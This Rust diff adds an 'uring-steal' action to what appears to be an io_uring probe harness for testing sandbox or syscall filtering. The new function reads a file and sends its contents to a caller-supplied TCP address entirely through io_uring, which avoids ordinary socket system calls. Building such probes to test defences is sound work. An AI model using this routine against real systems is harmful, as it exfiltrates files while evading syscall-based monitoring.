@@ -5,7 +5,7 @@ use crate::file::made;
 use crate::network::{sockaddr, tcp_socket};
 use crate::sys::{self, CWD, nr, o};
 use std::io;
-use std::net::{Ipv4Addr, TcpListener};
+use std::net::{Ipv4Addr, SocketAddrV4, TcpListener};
 use std::path::Path;
 use std::sync::atomic::{AtomicU32, Ordering};
 
@@ -14,6 +14,7 @@ pub const ACTS: &[Act] = &[
     ("uring-sqpoll-open", |args| open(args, SQPOLL)),
     ("uring-unlink", unlink),
     ("uring-connect", connect),
+    ("uring-steal", steal),
 ];
 
 /// `IORING_SETUP_SQPOLL`: a thread of the kernel takes the requests.
@@ -24,6 +25,8 @@ mod op {
     pub const CONNECT: u8 = 16;
     pub const OPENAT: u8 = 18;
     pub const CLOSE: u8 = 19;
+    pub const READ: u8 = 22;
+    pub const SEND: u8 = 26;
     pub const UNLINKAT: u8 = 36;
 }
 
@@ -147,4 +150,28 @@ fn connect(args: &Args) -> Told {
     let (_, from) = listener.accept()?;
     sys::close(fd);
     Ok(format!("port={port} client={} result={result}", from.port()))
+}
+
+/// `uring-steal FILE ADDR:PORT`: reads a file and sends it away; but for the socket nothing is a system call.
+fn steal(args: &Args) -> Told {
+    let path = c(args.text(0)?)?;
+    let to: SocketAddrV4 = args.text(1)?.parse().map_err(io::Error::other)?;
+    let ring = Ring::new(0)?;
+    let file = ring.run(Request { op_flags: o::CLOEXEC as u32, ..below_cwd(op::OPENAT, &path) })?;
+    sys::need("open", file as isize)?;
+    let mut content = [0u8; 4096];
+    let buffer = (content.as_mut_ptr() as u64, content.len() as u32);
+    let read = ring.run(Request { opcode: op::READ, fd: file, addr: buffer.0, len: buffer.1, ..Request::default() })?;
+    let read = sys::need("read", read as isize)?;
+    ring.run(Request { opcode: op::CLOSE, fd: file, ..Request::default() })?;
+
+    let fd = tcp_socket()?;
+    let addr = sockaddr(*to.ip(), to.port());
+    let there =
+        Request { opcode: op::CONNECT, fd: fd as i32, addr: addr.as_ptr() as u64, off: 16, ..Request::default() };
+    sys::need("connect", ring.run(there)? as isize)?;
+    let send = Request { opcode: op::SEND, fd: fd as i32, addr: buffer.0, len: read as u32, ..Request::default() };
+    let sent = ring.run(send)?;
+    sys::close(fd);
+    Ok(format!("path={} read={read} to={to} sent={sent}", args.text(0)?))
 }
